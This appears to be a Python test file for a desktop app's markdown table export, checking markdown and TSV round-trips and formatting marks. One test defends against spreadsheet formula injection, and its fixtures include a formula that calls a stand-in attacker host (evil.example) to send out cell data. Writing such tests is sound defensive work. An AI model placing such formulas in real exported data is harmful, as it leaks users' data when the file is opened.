from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gpts_desktop.core.markdown import run_text, table_text
from gpts_desktop.core.markdown.blocks import TABLE_PART_ROWS, Run, Table
from gpts_desktop.core.markdown.parse import parse

WRITTEN = r"""| Name | Size | *Kind* |
|:--|--:|:-:|
| **a** `x|y` | 1 | [link](https://example.com/a) |
| a \| b | $x^2$ | ~~old~~ \*no\* |
| short |
"""


def tables(source: str) -> list[Table]:
    found = [block for block in parse(source) if isinstance(block, Table)]
    assert len(found) == len(parse(source)) and found
    return found


def contents(parts: list[Table]) -> tuple[object, ...]:
    rows = [row for part in parts for row in part.rows]
    return parts[0].header, parts[0].alignments, rows


def test_a_table_as_markdown_reads_as_the_same_table() -> None:
    written = tables(WRITTEN.replace("`x|y`", r"`x\|y`"))
    copied = table_text.markdown(written)
    assert contents(tables(copied)) == contents(written)
    assert copied.splitlines()[1] == "| :--- | ---: | :---: |"


def test_all_parts_of_a_long_table_are_one() -> None:
    count = 2 * TABLE_PART_ROWS + 5
    parts = tables("| N |\n|--|\n" + "\n".join(f"| {n} |" for n in range(count)))
    assert len(parts) == 3
    assert table_text.tsv(parts).split("\n") == ["N", *map(str, range(count))]
    assert len(table_text.markdown(parts).split("\n")) == count + 2


def test_tsv_has_no_marks_and_each_row_is_as_wide_as_the_header() -> None:
    lines = table_text.tsv(tables(WRITTEN.replace("`x|y`", "`x`"))).split("\n")
    assert lines[0] == "Name\tSize\tKind"
    assert lines[1] == "a x\t1\tlink"
    assert all(line.count("\t") == 2 for line in lines)


@pytest.mark.parametrize(
    ("cell", "copied"),
    [
        ('=WEBSERVICE("http://evil.example/"&A1)', "'="),
        ("@SUM(A1)", "'@"),
        ("-cmd()", "'-"),
        ("-5", "-5"),
        ("+3.2 %", "+3.2 %"),
        ("plain = text", "plain"),
    ],
)
def test_what_a_spreadsheet_would_work_out_is_made_inert(cell: str, copied: str) -> None:
    part = Table(((Run("Head"),),), (((Run(cell),),),), ("",))
    assert table_text.tsv([part], inert=True).split("\n")[1].startswith(copied)
    assert table_text.tsv([part]).split("\n")[1] == cell


def test_nothing_is_no_table() -> None:
    assert table_text.tsv([]) == table_text.markdown([]) == ""


def test_marks_that_cross_are_closed_and_opened_again() -> None:
    runs = (Run("a ", bold=True), Run("b", bold=True, italic=True), Run(" c", italic=True))
    assert run_text.markdown(runs) == "**a *b*** *c*"


def test_code_with_ticks_is_fenced_by_more_of_them() -> None:
    assert run_text.markdown((Run("a``b", code=True),)) == "```a``b```"
    assert run_text.markdown((Run("`", code=True),)) == "`` ` ``"


words = st.text(st.sampled_from("ab *_`~$|\\<&é量"), min_size=1, max_size=6).map(str.strip)
runs = st.builds(Run, words.filter(bool), bold=st.booleans(), link=st.sampled_from(["", "x:y"]))


@given(st.lists(runs, min_size=1, max_size=3))
def test_any_text_reads_as_it_was(cell: list[Run]) -> None:
    parted = [part for run in cell for part in (run, Run(" "))][:-1]
    table = Table(((Run("Head"),),), ((tuple(parted),),), ("",))
    (again,) = tables(table_text.markdown([table]))
    assert _looks(again.rows[0][0]) == _looks(parted)


def _looks(runs: tuple[Run, ...] | list[Run]) -> list[Run]:
    """Return the runs letter by letter, blanks without looks: they show none."""
    letters = [replace(run, text=letter) for run in runs for letter in run.text]
    return [Run(" ") if letter.text == " " else letter for letter in letters]
